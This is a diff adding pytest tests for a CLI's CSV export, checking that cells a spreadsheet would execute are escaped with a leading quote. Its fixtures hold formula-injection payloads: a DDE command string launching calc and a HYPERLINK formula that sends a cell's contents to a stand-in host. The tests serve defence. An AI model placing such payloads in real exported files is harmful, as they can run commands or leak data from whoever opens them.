@@ -255,3 +255,38 @@ def test_a_filter_no_row_could_match_is_a_usage_error_naming_its_option(filled: 
 def test_a_valid_leap_day_filter_is_accepted(filled: str) -> None:
     result = runner.invoke(app, ["sources", "--since", "2020-02-29", "--db", filled, "--format", "json"])
     assert result.exit_code == 0 and [s["name"] for s in json.loads(result.stdout)] == ["Adrienne Watson"]
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1;"clic")', "+33 1 23", "-2+3", "@SUM(A1:A9)"]
+
+
+@pytest.fixture
+def formulas(db_url: str) -> str:
+    with Corpus(db_url) as corpus:
+        text = "".join(f"{name}|person|assert|{formula}\n" for name, formula in zip(
+            ["=2+5+cmd('/C calc')!A0", "Adrienne Watson", "Jean Martin", "Mahdi Nourian"], FORMULAS, strict=True))
+        save.save_analysis(corpus.store, scripted_analysis(text, doc_id="f1"), "f1", Syndication.load(corpus.store))
+    return db_url
+
+
+def _csv_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_csv_export_cells_a_spreadsheet_would_run_start_with_a_quote(formulas: str) -> None:
+    cells = _csv_cells(runner.invoke(app, ["export", "--format", "csv", "--db", formulas]).stdout)
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert {f"'{f}" for f in FORMULAS} <= set(cells) and "'=2+5+cmd('/C calc')!A0" in cells
+
+
+def test_csv_export_with_raw_keeps_the_cells_as_stored(formulas: str) -> None:
+    cells = _csv_cells(runner.invoke(app, ["export", "--format", "csv", "--raw", "--db", formulas]).stdout)
+    assert set(FORMULAS) <= set(cells)
+
+
+def test_query_csv_cells_a_spreadsheet_would_run_start_with_a_quote(formulas: str) -> None:
+    cells = _csv_cells(runner.invoke(app, ["quotes", "-s", "watson", "--format", "csv", "--db", formulas]).stdout)
+    assert "'+33 1 23" in cells and "+33 1 23" not in cells
